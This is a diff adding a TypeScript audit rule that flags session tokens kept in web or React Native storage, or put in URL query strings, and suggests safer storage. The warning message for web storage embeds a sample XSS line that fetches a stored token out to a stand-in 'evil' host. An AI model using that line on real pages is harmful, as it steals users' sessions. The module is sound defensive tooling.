@@ -1,0 +1,179 @@
+// Tokens in places scripts (or anyone holding the device) can read: web storage and React Native
+// AsyncStorage (session/token-in-web-storage), and URLs (session/token-in-url). The value must be
+// shown to hold a token by the data flow: a storage key such as 'userInfo' proves nothing.
+import { isNode, keyName, type Node, unwrap } from '../js/ast.js';
+import { type AuditContext, args, callAnchor, calleeName, calleeObject } from './context.js';
+import { stringLiteral } from './flow.js';
+import { isTokenName } from './libraries.js';
+import { inServerContext, routeContext } from './server.js';
+import { classifyToken, holdsToken, type TokenKind } from './tokens.js';
+
+type Store = 'localStorage' | 'sessionStorage' | 'AsyncStorage';
+
+function storeOf(ctx: AuditContext, node: Node | undefined): Store | undefined {
+  const target = node ? (unwrap(node) as Node) : undefined;
+  if (!target) return undefined;
+  const name = target.type === 'Identifier' ? (target.name as string) : target.type === 'MemberExpression' && !target.computed ? keyName(target.property) : undefined;
+  if (name === 'localStorage' || name === 'sessionStorage') return name;
+  if (target.type === 'Identifier' && (ctx.importOf(target)?.source === '@react-native-async-storage/async-storage' || name === 'AsyncStorage')) return 'AsyncStorage';
+  return undefined;
+}
+
+function describe(kind: TokenKind): string {
+  if (kind === 'login-body') return 'the login response, which carries the token';
+  if (kind === 'refresh') return 'a refresh token';
+  return 'a token';
+}
+
+function reportStorage(ctx: AuditContext, at: Node, store: Store, key: string | undefined, kind: TokenKind): void {
+  const what = describe(kind);
+  const keyText = key === undefined ? '' : ` under '${key}'`;
+  const message =
+    store === 'AsyncStorage'
+      ? `AsyncStorage stores ${what}${keyText} unencrypted on the device: backups, other tools on a rooted phone and debug builds read it. Use expo-secure-store or react-native-keychain`
+      : `${store} stores ${what}${keyText}: any script on the page reads it (one XSS line: fetch('//evil/?t='+${store}.getItem('${key ?? 'token'}'))) and web storage cannot be HttpOnly. Keep the session in a cookie the server sets (res.cookie('sid', id, { httpOnly: true, secure: true, sameSite: 'lax' })), or keep a short-lived access token in memory only`;
+  ctx.report('session/token-in-web-storage', at, message, { data: { store, holds: kind } });
+}
+
+export function checkStorage(ctx: AuditContext): void {
+  for (const { node } of ctx.calls) {
+    const name = calleeName(node);
+    if (name !== 'setItem' && name !== 'multiSet') continue;
+    const store = storeOf(ctx, calleeObject(node));
+    if (!store) continue;
+    const list = args(node);
+    if (name === 'multiSet') {
+      const pairs = ctx.flow.resolve(list[0]);
+      for (const pair of pairs?.type === 'ArrayExpression' ? (pairs.elements as Node[]) : []) {
+        const items = pair?.type === 'ArrayExpression' ? (pair.elements as Node[]) : [];
+        const kind = classifyToken(ctx, items[1]);
+        if (holdsToken(kind)) reportStorage(ctx, callAnchor(node), store, stringLiteral(items[0]), kind!);
+      }
+      continue;
+    }
+    const kind = classifyToken(ctx, list[1]);
+    if (holdsToken(kind)) reportStorage(ctx, callAnchor(node), store, stringLiteral(ctx.flow.resolve(list[0]) ?? list[0]), kind!);
+  }
+  for (const { node } of ctx.assignments) {
+    const left = unwrap(node.left) as Node;
+    if (left.type !== 'MemberExpression' || node.operator !== '=') continue;
+    const store = storeOf(ctx, left.object as Node);
+    if (!store || store === 'AsyncStorage') continue;
+    const kind = classifyToken(ctx, node.right);
+    if (holdsToken(kind)) reportStorage(ctx, left, store, keyName(left.property), kind!);
+  }
+}
+
+const ONE_TIME = /reset|verif|confirm|invite|activat|magic|unsubscribe|email|password/i;
+const QUERY_TOKEN_PARAM = /[?&](access_?token|token|jwt|auth_?token|id_?token|refresh_?token|bearer|session_?id)=$/i;
+
+function urlMessage(what: string): string {
+  return `${what}: URLs land in server and proxy logs, browser history and the Referer header of every link the page follows, where anyone reading them replays the token. Send it as \`Authorization: Bearer <token>\` (passport-jwt: ExtractJwt.fromAuthHeaderAsBearerToken()) or in an HttpOnly cookie`;
+}
+
+export function checkTokenInUrl(ctx: AuditContext): void {
+  // Reading the token from the query string as the way requests authenticate.
+  for (const { node, ancestors } of ctx.members) {
+    const object = unwrap(node.object) as Node;
+    const key = keyName(node.property);
+    if (key === undefined || !isTokenName(key) || !isQuery(object)) continue;
+    if (!inServerContext(ctx, ancestors) || ONE_TIME.test(routeContext(ctx, ancestors))) continue;
+    ctx.report('session/token-in-url', node, urlMessage(`The server reads the token from the query string (${ctx.text(node)})`));
+  }
+  for (const { node, ancestors } of ctx.calls) {
+    const name = calleeName(node);
+    const list = args(node);
+    // const { token } = req.query is covered through the declarator below.
+    if (name === 'fromUrlQueryParameter') ctx.report('session/token-in-url', callAnchor(node), urlMessage('passport-jwt takes the token from the URL (ExtractJwt.fromUrlQueryParameter)'));
+    if ((name === 'get' || name === 'getAll') && /searchParams$/.test(ctx.text(calleeObject(node) ?? node)) && isTokenName(stringLiteral(list[0]) ?? '') && inServerContext(ctx, ancestors) && !ONE_TIME.test(routeContext(ctx, ancestors))) {
+      ctx.report('session/token-in-url', callAnchor(node), urlMessage(`The server reads the token from the query string (searchParams.get('${stringLiteral(list[0])}'))`));
+    }
+    if ((name === 'set' || name === 'append') && /searchParams$/.test(ctx.text(calleeObject(node) ?? node)) && isTokenName(stringLiteral(list[0]) ?? '') && !ONE_TIME.test(routeContext(ctx, ancestors))) {
+      ctx.report('session/token-in-url', callAnchor(node), urlMessage(`A token is added to a URL (searchParams.${name}('${stringLiteral(list[0])}', ...))`));
+    }
+  }
+  for (const { node } of ctx.objects) {
+    for (const prop of node.properties as Node[]) {
+      if (prop.type !== 'Property' || prop.computed) continue;
+      const key = keyName(prop.key);
+      if (key === 'params' && isNode(prop.value)) {
+        const params = ctx.flow.objectView(prop.value);
+        const tokenKey = params ? [...params.entries()].map(([k]) => k).find(isTokenName) : undefined;
+        if (tokenKey) ctx.report('session/token-in-url', prop.key as Node, urlMessage(`A token is sent as the query parameter '${tokenKey}'`));
+      }
+    }
+  }
+  checkDestructuredQuery(ctx);
+  checkBuiltUrls(ctx);
+}
+
+function isQuery(node: Node): boolean {
+  if (node.type !== 'MemberExpression' || keyName(node.property) !== 'query') return false;
+  const owner = unwrap(node.object) as Node;
+  const ownerName = owner.type === 'Identifier' ? (owner.name as string) : owner.type === 'MemberExpression' ? keyName(owner.property) : undefined;
+  return ownerName !== undefined && /^(req|request|ctx|context|c)$/.test(ownerName);
+}
+
+function checkDestructuredQuery(ctx: AuditContext): void {
+  for (const { node, ancestors } of ctx.members) {
+    if (!isQuery(node)) continue;
+    const declarator = ctx.flow.declaratorOf(node);
+    const id = declarator?.id as Node | undefined;
+    if (id?.type !== 'ObjectPattern') continue;
+    const tokenProp = (id.properties as Node[]).find((p) => p.type === 'Property' && isTokenName(keyName(p.key) ?? ''));
+    if (!tokenProp || !inServerContext(ctx, ancestors) || ONE_TIME.test(routeContext(ctx, ancestors))) continue;
+    ctx.report('session/token-in-url', tokenProp, urlMessage(`The server reads the token from the query string (${ctx.text(declarator!)})`));
+  }
+}
+
+/** `/api/me?token=${token}`, `'?access_token=' + jwt`: a token-named query parameter filled with a value. */
+function checkBuiltUrls(ctx: AuditContext): void {
+  const visit = (node: Node, ancestors: readonly Node[], statics: string[], holes: Node[]) => {
+    const full = statics.join('');
+    if (ONE_TIME.test(full) || ONE_TIME.test(routeContext(ctx, ancestors))) return;
+    for (let i = 0; i < holes.length; i++) {
+      if (!QUERY_TOKEN_PARAM.test(statics[i] ?? '')) continue;
+      const kind = classifyToken(ctx, holes[i]);
+      const holeName = (unwrap(holes[i]) as Node).type === 'Identifier' ? ((unwrap(holes[i]) as Node).name as string) : '';
+      if (!holdsToken(kind) && !isTokenName(holeName)) continue;
+      ctx.report('session/token-in-url', node, urlMessage('A token is put in a URL query string'));
+      return;
+    }
+  };
+  for (const { node, ancestors } of ctx.strings) {
+    const parent = ctx.flow.parents.get(node);
+    if (parent?.type === 'BinaryExpression' && parent.operator === '+') continue; // judged as part of the whole
+    if (node.type === 'TemplateLiteral') {
+      const quasis = (node.quasis as Node[]).map((q) => (q.value as { cooked?: string }).cooked ?? '');
+      visit(node, ancestors, quasis, node.expressions as Node[]);
+      continue;
+    }
+    const parts: (string | Node)[] = [];
+    flattenConcat(node, parts);
+    const statics: string[] = [];
+    const holes: Node[] = [];
+    let current = '';
+    for (const part of parts) {
+      if (typeof part === 'string') current += part;
+      else {
+        statics.push(current);
+        holes.push(part);
+        current = '';
+      }
+    }
+    statics.push(current);
+    visit(node, ancestors, statics, holes);
+  }
+}
+
+function flattenConcat(node: Node, parts: (string | Node)[]): void {
+  const target = unwrap(node) as Node;
+  if (target.type === 'BinaryExpression' && target.operator === '+') {
+    flattenConcat(target.left as Node, parts);
+    flattenConcat(target.right as Node, parts);
+    return;
+  }
+  const text = stringLiteral(target);
+  parts.push(text ?? target);
+}
+
